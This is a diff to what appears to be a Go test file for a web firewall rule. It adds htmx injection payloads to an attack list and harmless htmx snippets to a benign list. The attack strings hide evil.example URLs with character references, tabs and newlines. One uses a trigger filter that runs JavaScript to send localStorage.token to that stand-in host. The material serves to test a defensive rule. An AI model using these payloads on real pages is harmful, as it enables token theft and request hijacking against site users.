@@ -19,6 +19,13 @@ var htmxAttacks = []string{
 	// extensions' connections
 	`<div hx-sse="connect:https://evil.example/x">`, `<div hx-ws="connect:wss://evil.example">`,
 	`<div hx-ext="ws" ws-connect="wss://evil.example/x">`, `<div hx-ext="sse" sse-connect="https://evil.example/x" sse-swap="m">`,
+	// attack 21's: character references and a tab in the URL, a trigger
+	// filter (JavaScript htmx evaluates)
+	`<div hx-get="https&#58;//evil.example/x" hx-trigger="load"></div>`, `<div hx-get="https&colon;//evil.example/x" hx-trigger="load"></div>`,
+	`<div hx-get="&#47;/evil.example/x" hx-trigger="load"></div>`, `<div hx-get="&#x2F;&#x2F;evil.example/x" hx-trigger="load"></div>`,
+	`<div hx-get="&sol;&sol;evil.example/x" hx-trigger="load"></div>`, `<div hx-get="/&#9;/evil.example/x" hx-trigger="load"></div>`,
+	`<div hx-get="/&NewLine;/evil.example/x" hx-trigger="load"></div>`, "<div hx-get=\"/\t/evil.example/x\" hx-trigger=\"load\"></div>",
+	`<div hx-get="/x" hx-trigger="load[new Image().src='//evil.example/?'+localStorage.token]"></div>`,
 }
 
 // htmxCRSCatches are htmx payloads the CRS alone refuses already (an
@@ -41,6 +48,7 @@ var htmxBenign = []string{
 	`How do I reload just the table? I have <button hx-get="/contacts/table" hx-target="#table" hx-swap="outerHTML">Reload</button>`,
 	"```html\n<tr hx-delete=\"/rows/3\" hx-confirm=\"Sure?\">\n```", `<div hx-post="/newsletter" hx-swap="outerHTML">Subscribe</div>`,
 	`<div hx-post="/admin/users/1/delete" hx-trigger="load">`, `<div hx-get="contacts?page=2">`,
+	`<input hx-get="/search" hx-trigger="keyup changed delay:500ms" name="q">`, `<div hx-get="/a&amp;b">`,
 }
 
 // TestHTMXBeyondTheCRS: rule 210122 refuses htmxAttacks in the query and
